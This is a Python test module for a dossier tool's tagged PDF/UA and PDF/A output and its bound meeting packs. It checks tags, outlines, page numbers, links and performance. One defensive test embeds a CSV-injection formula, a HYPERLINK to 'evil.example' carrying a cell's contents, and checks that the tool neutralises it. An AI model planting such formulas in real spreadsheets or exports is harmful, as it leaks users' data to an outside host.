"""Tagged PDF, and the meeting pack bound as one document (its PDF).

Every PDF the tool writes is tagged PDF/UA-1; ``--pdfa`` makes it PDF/A-3a as well. Read
back with pikepdf (structure tree, /MarkInfo, /Lang, the title shown, bookmarks, the
figure's alternative text, the XMP identification) and judged by a machine checker of
PDF/UA-1 and PDF/A (page-validation, from PyPI: veraPDF itself needs Java from elsewhere).
The dossiers are rendered once per session by fixtures in conftest.py (group "render");
the pack's binding is shown here on small dossiers made by the real export, without a
kernel, and on the sample meeting in test_batch.py.
"""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import SAMPLE_CASE, joined, small_dossier
from pdf_structure import cover_with_links, destinations, pack_of, page_image, page_texts

from dossier.run.export import write_pdf
from dossier.run.pack import PackedDossier, write_pack_pdf

SAMPLE_TITLE = "Länsgemensam påverkansagenda"


def img_alt(html: str) -> list[str]:
    """The alternative text of each image in a dossier's HTML, unescaped."""
    from html.parser import HTMLParser

    found: list[str] = []

    class Images(HTMLParser):
        def handle_starttag(self, tag, attrs):
            if tag == "img":
                found.append(dict(attrs).get("alt") or "")

    Images().feed(html)
    return found


# --- The dossiers ----------------------------------------------------------------------------


@pytest.mark.parametrize("lang", ["sv", "en", "de"])
@pytest.mark.kernel
@pytest.mark.xdist_group("render")
def test_a_dossier_pdf_is_tagged_for_a_screen_reader(request, lang, tagged_pdf):
    rendered = request.getfixturevalue(f"sample_dossier_{lang}")
    pdf = tagged_pdf(rendered.files.pdf)
    assert pdf.root == "/Document"
    assert pdf.marked and pdf.lang == lang
    assert pdf.shows_title and pdf.title == f"{SAMPLE_CASE} – {SAMPLE_TITLE}"
    assert pdf.xmp == {"pdfuaid:part": "1"}
    assert pdf.tags["/H1"] == 1 and pdf.tags["/H2"] >= len(pdf.outline) > 0
    assert pdf.tags["/Table"] > 0 and pdf.tags["/TH"] > 0
    assert pdf.list_kids <= {"/LI", "/L", "/Caption"}, pdf.list_kids
    # The timeline says in words what it shows, in the PDF as in the HTML.
    assert pdf.figures == img_alt(rendered.html)
    assert SAMPLE_CASE in pdf.figures[0]


@pytest.mark.parametrize("lang", ["sv", "en", "de"])
@pytest.mark.kernel
@pytest.mark.xdist_group("render")
def test_a_dossier_pdf_passes_the_pdf_ua_checker(request, lang, conformance):
    rendered = request.getfixturevalue(f"sample_dossier_{lang}")
    assert conformance(rendered.files.pdf, "ua1") == []


@pytest.mark.kernel
@pytest.mark.xdist_group("render")
def test_a_pdfa_dossier_is_pdf_a_3a_and_pdf_ua_1_with_its_data_attached(
    related_dossier_pdfa, tagged_pdf, conformance
):
    path = related_dossier_pdfa.files.pdf
    pdf = tagged_pdf(path)
    assert pdf.xmp == {"pdfuaid:part": "1", "pdfaid:part": "3", "pdfaid:conformance": "A"}
    assert pdf.root == "/Document" and pdf.marked and pdf.lang == "sv" and pdf.shows_title
    assert pdf.figures and all(pdf.figures)
    assert "manifest.json" in pdf.attachments and "events.csv" in pdf.attachments
    assert conformance(path, "3a") == []
    assert conformance(path, "ua1") == []


# --- How WeasyPrint's tags are mended ----------------------------------------------------------


def test_a_definition_list_grouped_in_divs_is_tagged_as_a_list_of_items(
    tmp_path, tagged_pdf, conformance
):
    html = (
        '<!DOCTYPE html><html lang="sv"><head><meta charset="utf-8"><title>Fakta</title></head>'
        "<body><h1>Fakta</h1><dl>"
        "<div><dt>Status</dt><dd>pågående</dd></div><div><dt>Ansvarig</dt><dd>Anna Åberg</dd></div>"
        "</dl><ul><li>en punkt</li></ul></body></html>"
    )
    write_pdf(html, tmp_path / "fakta.pdf")
    pdf = tagged_pdf(tmp_path / "fakta.pdf")
    assert pdf.list_kids == {"/LI"}
    assert "/Div" not in pdf.tags
    assert pdf.tags["/LI"] == 5  # two terms, two definitions, one point
    assert conformance(tmp_path / "fakta.pdf", "ua1") == []


# --- The pack bound as one document, on small dossiers made by the real export ----------------


def link_targets(path: Path, page: int) -> list[str]:
    import pikepdf

    with pikepdf.open(path) as pdf:
        annots = pdf.pages[page - 1].get("/Annots", [])
        return [str(a.Dest) for a in annots if a.Subtype == "/Link"]


@pytest.fixture(scope="module")
def small_pack(tmp_path_factory) -> tuple[Path, list[PackedDossier]]:
    return pack_of(tmp_path_factory.mktemp("pack"), [
        (item, case_id, title, small_dossier(case_id, title, sections))
        for item, case_id, title, sections in (("7", "A/1/2020", "Första", 3), ("8", "A/2/2021", "Andra", 2))
    ])  # fmt: skip


def test_the_pack_numbers_its_pages_through_from_the_cover_on(small_pack):
    path, _ = small_pack
    pages = page_texts(path)
    assert len(pages) == 1 + 3 + 2
    for number, page in enumerate(pages, start=1):
        assert f"Sida {number} av 6" in page, page
        assert "Sida 1 av 3" not in page and "Sida 1 av 2" not in page
    assert "A-1-2020 sida 2" in pages[0] and "A-2-2021 sida 5" in pages[0]


def test_the_pack_nests_each_dossiers_sections_under_its_agenda_item(small_pack, tagged_pdf):
    path, _ = small_pack
    pdf = tagged_pdf(path)
    assert pdf.outline == [
        ("7. A/1/2020 – Första", [("Avsnitt 1", []), ("Avsnitt 2", []), ("Avsnitt 3", [])]),
        ("8. A/2/2021 – Andra", [("Avsnitt 1", []), ("Avsnitt 2", [])]),
    ]


def test_a_dossier_in_the_pack_looks_as_its_own_pdf_but_for_its_page_number(small_pack, tmp_path):
    """Bound as it is: each page drawn as in the dossier's own PDF, only the number changed."""
    from PIL import ImageChops

    path, dossiers = small_pack
    for own_page, pack_page in ((1, 2), (3, 4)):
        own = page_image(dossiers[0].pdf, own_page, tmp_path)
        packed = page_image(path, pack_page, tmp_path)
        assert own.size == packed.size
        left, top, right, _ = ImageChops.difference(own, packed).getbbox()
        # 18 mm of bottom margin at 60 dpi: the page number's line, and nothing above it.
        assert top > own.size[1] - 18 / 25.4 * 60
        # Its digits alone, at the right: "Sida" and "av" stand where they stood.
        assert left > own.size[0] / 2 and right - left < own.size[0] / 10


#: Prints a small dossier's PDF in a fresh interpreter; says how many processes it started.
_PRINT_COUNTING_PROCESSES = """
import subprocess, sys
started = []
spawn = subprocess.Popen.__init__
def counted(self, args, *rest, **options):
    started.append(args)
    spawn(self, args, *rest, **options)
subprocess.Popen.__init__ = counted
from conftest import small_dossier
from dossier.run.export import write_pdf
write_pdf(small_dossier("A/1/2020", "Första", 1), __import__("pathlib").Path(sys.argv[1]))
print(len(started), started)
"""


@pytest.mark.skipif(sys.platform != "linux", reason="the library search spared is Linux's")
def test_printing_a_pdf_starts_no_process_to_find_its_libraries(tmp_path):
    """WeasyPrint's search for Pango and HarfBuzz (ldconfig, gcc, ld: 54 processes, 0.3 s
    of CPU in every process that prints) is spared; the PDF prints all the same."""
    pdf = tmp_path / "A-1-2020.pdf"
    done = subprocess.run(
        [sys.executable, "-c", _PRINT_COUNTING_PROCESSES, str(pdf)], cwd=Path(__file__).parent,
        capture_output=True, text=True, check=True,
    )  # fmt: skip
    assert done.stdout.startswith("0 "), done.stdout
    assert "Första" in joined("".join(page_texts(pdf)))


def test_printing_a_pdf_collects_its_garbage_once_per_step(tmp_path):
    """The collector, which would walk WeasyPrint's objects every 700 new ones, runs once
    after the layout and once after the writing, among the objects they made."""
    import gc

    html = small_dossier("A/1/2020", "Första", 1)
    collections: list[int] = []

    def count(phase: str, info: dict) -> None:
        if phase == "start":
            collections.append(info["generation"])

    gc.callbacks.append(count)
    try:
        write_pdf(html, tmp_path / "A-1-2020.pdf")
    finally:
        gc.callbacks.remove(count)
    assert collections == [0, 0]
    assert gc.isenabled()
    assert "Första" in joined("".join(page_texts(tmp_path / "A-1-2020.pdf")))


def test_a_pdf_without_its_own_page_number_is_not_bound(tmp_path):
    """A page without a number to replace would carry two numbers, or none: the pack stops."""
    from dossier.errors import RenderError

    bare = tmp_path / "A-1-2020.pdf"
    no_number = "<style>@page { @bottom-right { content: none !important; } }</style></head>"
    write_pdf(small_dossier("A/1/2020", "Första", 1).replace("</head>", no_number, 1), bare)
    dossier = PackedDossier("7", "A/1/2020", "Första", "A-1-2020", bare)
    with pytest.raises(RenderError, match=r"A-1-2020\.pdf: a page without its page number"):
        write_pack_pdf(tmp_path / "pack.pdf", cover_with_links([dossier]), [dossier], lang="sv")
    assert not (tmp_path / "pack.pdf").exists()


def test_the_dossiers_are_readied_for_the_pack_in_a_process_of_their_own(small_pack, tmp_path):
    """Readied while a batch renders: their pages without numbers; one that fails is left out."""
    from dossier.run.bind import PackAhead

    _, dossiers = small_pack
    broken = tmp_path / "broken.pdf"
    broken.write_bytes(b"%PDF-1.7 cut short")
    ahead = PackAhead([dossiers[0].pdf, broken], None)
    readied = ahead.unnumbered()
    ahead.close()
    assert list(readied) == [dossiers[0].pdf]
    (tmp_path / "readied.pdf").write_bytes(readied[dossiers[0].pdf])
    texts = page_texts(tmp_path / "readied.pdf")
    assert len(texts) == 3 and all("Sida" not in text for text in texts)
    assert [f"Text {n} i A/1/2020" in text for n, text in enumerate(texts, start=1)] == [True] * 3


def test_the_front_laid_out_ahead_is_taken_only_for_the_same_pack(small_pack, tmp_path):
    """Laid out while a batch renders, as if its dossiers keep their pages: the pack is the
    same with it as without; a pack whose front differs lays its own out."""
    from dossier.run.bind import PackAhead
    from dossier.run.pack import _front, read_layouts

    path, dossiers = small_pack
    cover = cover_with_links(dossiers)
    document, style = _front(cover, *read_layouts(dossiers), "sv")
    parts = [(d.slug, d.anchor, str(d.pdf)) for d in dossiers]
    ahead = PackAhead([dossiers[0].pdf], {"cover": cover, "parts": parts, "lang": "sv", "pdfa": False})
    try:
        assert ahead.front(document, style, True) is None  # PDF/A asked for: not the same
        assert ahead.front(document.replace("Dagordning", "Ärenden"), style, False) is None
        assert list(ahead.layouts()) == [dossiers[0].pdf]
        _, pages = ahead.front(document, style, False)
        assert pages == 1 + 3 + 2
        write_pack_pdf(tmp_path / "pack.pdf", cover, dossiers, lang="sv", ahead=ahead)
    finally:
        ahead.close()
    assert page_texts(tmp_path / "pack.pdf") == page_texts(path)
    assert destinations(tmp_path / "pack.pdf") == destinations(path)


def test_the_packs_links_lead_to_their_own_dossier(small_pack):
    path, _ = small_pack
    where = destinations(path)
    assert where["item:A-1-2020"] == 2 and where["item:A-2-2021"] == 5
    # Both dossiers have a section "s1": each one's link goes to its own.
    assert where["A-1-2020:s1"] == 2 and where["A-2-2021:s1"] == 5
    assert list(dict.fromkeys(link_targets(path, 1))) == ["item:A-1-2020", "item:A-2-2021"]
    assert set(link_targets(path, 6)) == {"A-2-2021:s1"}


def test_the_pack_is_one_tagged_document_in_the_packs_language(small_pack, tagged_pdf, conformance):
    path, _ = small_pack
    pdf = tagged_pdf(path)
    assert pdf.root == "/Document" and pdf.marked and pdf.shows_title
    assert pdf.lang == "sv" and pdf.title == "Samlad PDF"
    assert pdf.xmp == {"pdfuaid:part": "1"}
    assert pdf.tags["/H1"] == 3  # the cover's, and each dossier's title
    assert conformance(path, "ua1") == []


def test_a_pdfa_pack_of_pdfa_dossiers_is_pdf_a_3a_and_pdf_ua_1(tmp_path, tagged_pdf, conformance):
    """``--pdfa``: the dossiers bound as they are, their data attached to each, and the pack."""
    dossiers = []
    for item, case_id, sections in (("7", "A/1/2020", 2), ("8", "A/2/2021", 1)):
        slug = case_id.replace("/", "-")
        write_pdf(small_dossier(case_id, "Första", sections), tmp_path / f"{slug}.pdf", pdfa=True,
                  attachments={"manifest.json": b"{}"})  # fmt: skip
        dossiers.append(PackedDossier(item, case_id, "Första", slug, tmp_path / f"{slug}.pdf"))
    path = tmp_path / "pack.pdf"
    write_pack_pdf(path, cover_with_links(dossiers), dossiers, lang="sv", pdfa=True)
    assert tagged_pdf(path).xmp == {"pdfuaid:part": "1", "pdfaid:part": "3", "pdfaid:conformance": "A"}
    assert [f"Sida {n} av 4" in page for n, page in enumerate(page_texts(path), start=1)] == [True] * 4
    assert conformance(path, "3a") == []
    assert conformance(path, "ua1") == []


def test_an_item_whose_dossier_failed_is_on_the_cover_and_not_in_the_pack(
    tmp_path, write_data, valid_csv, tagged_pdf
):
    from dossier.content.parameters import DossierParameters
    from dossier.data.validate import load
    from dossier.run.job import RenderOptions
    from dossier.run.pack import build_meeting_pack
    from dossier.run.results import BatchReport, DossierResult, Status

    agenda = valid_csv["agenda"] + "M1,8,A/2/2021,,\n"
    registry = load(write_data(tmp_path / "data", agenda=agenda))
    out = tmp_path / "out"
    folder = out / "A-1-2020"
    folder.mkdir(parents=True)
    html = small_dossier("A/1/2020", "Första ärendet", 2)
    (folder / "A-1-2020.html").write_text(html, encoding="utf-8")
    write_pdf(html, folder / "A-1-2020.pdf")
    done = DossierResult("A/1/2020", "A-1-2020", "Första ärendet", Status.DONE,
                         outputs={"html": str(folder / "A-1-2020.html"), "pdf": str(folder / "A-1-2020.pdf")})  # fmt: skip
    failed = DossierResult("A/2/2021", "A-2-2021", "Andra ärendet", Status.FAILED, error="boom")
    report = BatchReport([done, failed], 1.0, out)
    pack = build_meeting_pack(registry, "M1", report, RenderOptions(DossierParameters.given(lang="sv")))
    pages = page_texts(Path(pack["pdf"]))
    assert len(pages) == 3
    assert [f"Sida {n} av 3" in page for n, page in enumerate(pages, start=1)] == [True] * 3
    assert "7 A/1/2020 Första ärendet" in pages[0]
    assert "8 A/2/2021 Andra ärendet" in pages[0] and "sammanställning saknas" in pages[0]
    assert tagged_pdf(Path(pack["pdf"])).outline == [
        ("7. A/1/2020 – Första ärendet", [("Avsnitt 1", []), ("Avsnitt 2", [])])
    ]


def _crafted(kind: str, good: Path, path: Path) -> None:
    """A dossier's PDF as someone may leave it in the output folder."""
    import pikepdf

    if kind == "malformed":
        path.write_bytes(b"%PDF-1.7\n1 0 obj <</Type /Catalog>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n")
    elif kind == "not-a-pdf":
        path.write_bytes(b"not a PDF at all")
    else:
        with pikepdf.open(good) as pdf:
            if kind == "untagged":
                del pdf.Root.StructTreeRoot
            pdf.save(path, encryption=pikepdf.Encryption(owner="o", user="u") if kind == "encrypted" else None)


@pytest.mark.parametrize("kind", ["malformed", "not-a-pdf", "encrypted", "untagged"])
def test_a_dossier_pdf_the_pack_cannot_bind_is_named(small_pack, tmp_path, kind):
    from dossier.errors import OutputError

    _, dossiers = small_pack
    bad = tmp_path / "A-1-2020.pdf"
    _crafted(kind, dossiers[0].pdf, bad)
    crafted = [PackedDossier("7", "A/1/2020", "Första", "A-1-2020", bad), dossiers[1]]
    with pytest.raises(OutputError, match=rf"^{re.escape(str(bad))}: this PDF cannot be bound .*batch --force"):
        write_pack_pdf(tmp_path / "pack.pdf", cover_with_links(crafted), crafted, lang="sv")
    assert not (tmp_path / "pack.pdf").exists()


@pytest.mark.kernel
def test_the_data_attached_to_a_pdfa_dossier_holds_no_formula_a_spreadsheet_would_run(
    tmp_path, write_data, valid_csv
):
    """OWASP's CSV injection: ``=HYPERLINK(…)`` from the registry opens as text, not as a link."""
    import pikepdf
    from processes import dossier

    formula = '=HYPERLINK("http://evil.example/?"&A1,"Bilaga")'
    quoted = formula.replace('"', '""')
    events = valid_csv["events"].replace("e3,A/2/2021,2021-03-01,,decided,N,Beslut,",
                                         f'e3,A/2/2021,2021-03-01,,decided,N,"{quoted}",')  # fmt: skip
    data = write_data(tmp_path / "data", events=events)
    out = tmp_path / "out"
    done = dossier("render", "A/2/2021", "--data", data, "--out", out, "--pdfa", "--format", "pdf")
    assert done.returncode == 0, done.stderr
    with pikepdf.open(out / "A-2-2021" / "A-2-2021.pdf") as pdf:
        attached = pdf.attachments["events.csv"].get_file().read_bytes().decode("utf-8")
    rows = list(csv.reader(io.StringIO(attached)))
    assert rows[1][rows[0].index("title")] == "'" + formula
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
    # The records the comparison keeps are the registry's own, as are the dossier's words.
    extract = json.loads((out / "A-2-2021" / "case-extract.json").read_text(encoding="utf-8"))
    assert formula in next(csv.DictReader(io.StringIO(extract["tables"]["events.csv"])))["title"]
    assert joined(formula) in joined(" ".join(page_texts(out / "A-2-2021" / "A-2-2021.pdf")))


def _page_faults(work) -> int:
    import resource

    before = resource.getrusage(resource.RUSAGE_SELF).ru_minflt
    work()
    return resource.getrusage(resource.RUSAGE_SELF).ru_minflt - before


def _dive(depth: int) -> int:
    return _dive(depth - 1) + 1 if depth else 0


def test_a_recursion_on_the_roomy_stack_maps_no_memory_as_it_goes_up_and_down():
    """500 dives 600 calls deep cross CPython's 16 KiB frame chunks (about 170 of these
    frames each) twice or more a dive; on the roomy stack none is mapped and unmapped."""
    from dossier.run.export import on_roomy_stack

    def dives() -> None:
        for _ in range(500):
            _dive(600)

    dives()
    roomy = _page_faults(lambda: on_roomy_stack(dives))
    plain = _page_faults(dives)
    if sys.version_info < (3, 13):  # where a chunk is unmapped as soon as it is left
        assert plain >= 1000, plain
    assert roomy < 50, (roomy, plain)


def test_weasyprint_lays_out_and_writes_on_the_roomy_stack(monkeypatch, tmp_path):
    """The recursions that cross chunk edges thousands of times a dossier (WeasyPrint's
    layout and its drawing of the pages) run above the roomy stack's frame."""
    import weasyprint.document

    from dossier.run import export

    seen: dict[str, bool] = {}

    def watched(name: str, function):
        def call(*args, **kwargs):
            frame, roomy = sys._getframe(), export._roomy_call.__code__
            while frame is not None and frame.f_code is not roomy:
                frame = frame.f_back
            seen[name] = frame is not None
            return function(*args, **kwargs)

        return call

    for name in ("layout_document", "generate_pdf"):
        monkeypatch.setattr(
            weasyprint.document, name, watched(name, getattr(weasyprint.document, name))
        )
    write_pdf(small_dossier("A/1/2020", "Första", 1), tmp_path / "A-1-2020.pdf")
    assert seen == {"layout_document": True, "generate_pdf": True}
    assert "Första" in joined("".join(page_texts(tmp_path / "A-1-2020.pdf")))


def test_a_dossiers_contents_page_is_laid_out_twice_and_gives_each_sections_page(
    monkeypatch, tmp_path
):
    """WeasyPrint lays the contents list's page out, then the sections' pages, then the list's
    page again with their numbers: twice, not three times. Each number is the page that the
    section's heading is on."""
    import weasyprint
    import weasyprint.layout.page

    from dossier.run import export

    made: list[int] = []
    make_page = weasyprint.layout.page.make_page

    def making(context, root_box, page_type, resume_at, page_number, page_state):
        made.append(page_number)
        return make_page(context, root_box, page_type, resume_at, page_number, page_state)

    monkeypatch.setattr(weasyprint.layout.page, "make_page", making)
    html = (Path(__file__).parent / "golden" / "RUN-168-2020.sv.html").read_text(encoding="utf-8")
    pdf = tmp_path / "RUN-168-2020.pdf"
    export.write_document(export.lay_out(html), pdf)
    pages = page_texts(pdf)
    # Three times in a WeasyPrint whose code the mends were not read against.
    again = [1] if weasyprint.__version__ in export.MENDED_WEASYPRINT else [1, 1]
    assert made == [*range(1, len(pages) + 1), *again]
    contents = subprocess.run(["pdftotext", "-layout", "-l", "1", str(pdf), "-"],
                              capture_output=True, text=True, check=True).stdout  # fmt: skip
    listed = re.findall(r"^\d+\. (\S.*?)[ .]+(\d+)$", contents, re.MULTILINE)
    assert len(listed) == 8, contents
    for title, page in listed:
        assert title in pages[int(page) - 1].split("Innehåll")[-1], (title, page)
